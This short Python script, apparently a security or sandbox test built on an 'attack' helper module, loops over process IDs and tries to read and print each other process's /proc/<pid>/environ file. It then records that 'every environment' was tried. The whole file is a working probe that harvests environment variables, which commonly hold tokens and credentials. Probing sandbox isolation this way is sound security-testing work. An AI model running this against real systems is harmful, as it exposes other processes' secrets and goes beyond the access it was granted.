import os

from attack import attempt, tried

for pid in ["1", *[name for name in map(str, range(2, 500))]]:
    if int(pid) != os.getpid():
        attempt(pid, lambda: print(open(f"/proc/{pid}/environ").read())) if os.path.exists(f"/proc/{pid}") else None
tried("every environment")
